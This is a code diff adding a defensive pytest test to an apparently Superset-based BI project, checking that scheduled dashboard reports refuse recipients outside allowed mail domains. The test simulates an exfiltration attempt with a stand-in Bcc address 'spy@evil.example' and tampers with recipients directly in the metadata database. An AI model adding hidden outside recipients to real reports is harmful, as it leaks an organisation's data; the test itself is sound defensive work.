@@ -9,6 +9,7 @@ import io
 import json
 import time
 
+import psycopg
 import pytest
 from PIL import Image
 
@@ -16,6 +17,7 @@ from olist_bi import reports as spec_module
 from olist_bi import warehouse as served
 from olist_bi.dashboards import dashboards
 from olist_bi.superset import reports
+from olist_bi.superset.client import SupersetApiError
 from olist_bi.superset.provision import ids_by_uuid
 
 
@@ -150,5 +152,34 @@ def test_the_late_delivery_alert_fires_above_its_threshold_only(superset):
         (message,) = wait_for_mail(settings, name, 1)
         assert message["To"] == "manager@olist-bi.local" and "Delivery and satisfaction" in message["Subject"]
         assert [p.get_content_type() for p in message.walk() if p.get_content_maintype() == "image"] == ["image/png"]
+    finally:
+        reports.provision(settings, client, ids)
+
+
+def test_a_recipient_outside_the_allowed_domains_is_refused_when_saved_and_when_sent(superset):
+    """Any owner of a report could mail a dashboard anywhere (Bcc included). The session's
+    Superset allows olist-bi.local (OLIST_MAIL_ALLOWED_DOMAINS' default)."""
+    settings, client, _ = superset
+    ids = ids_by_uuid(client)
+    name = "Platform health, daily"
+    body = reports.schedules(settings, spec_module.load(), ids)[name]
+    spy = {"type": "Email", "recipient_config_json": {"target": "manager@olist-bi.local", "bccTarget": "spy@evil.example"}}
+    with pytest.raises(SupersetApiError) as refused:
+        client.post("/api/v1/report/", {**body, "name": "Exfiltrate", "recipients": [spy]})
+    assert refused.value.status == 422 and "spy@evil.example" in str(refused.value) and "OLIST_MAIL_ALLOWED_DOMAINS" in str(refused.value)
+    assert not client.named("/api/v1/report/", "Exfiltrate")
+
+    # A report whose recipients were changed behind the API (in the metadata database) is
+    # still refused when it sends: nothing reaches the mail server.
+    schedule = reports.find(client, name)["id"]
+    with psycopg.connect(settings.superset_database_url, autocommit=True) as conn:
+        conn.execute("update report_recipient set recipient_config_json = %s where report_schedule_id = %s",
+                     (json.dumps(spy["recipient_config_json"]), schedule))
+    sent_before = len(mails(settings, name))
+    try:
+        entry = reports.run(settings, client, name)
+        assert entry["state"] == "Error" and "spy@evil.example is outside it" in entry["error_message"], entry
+        time.sleep(2)
+        assert len(mails(settings, name)) == sent_before  # not even to the allowed recipient beside the spy
     finally:
         reports.provision(settings, client, ids)
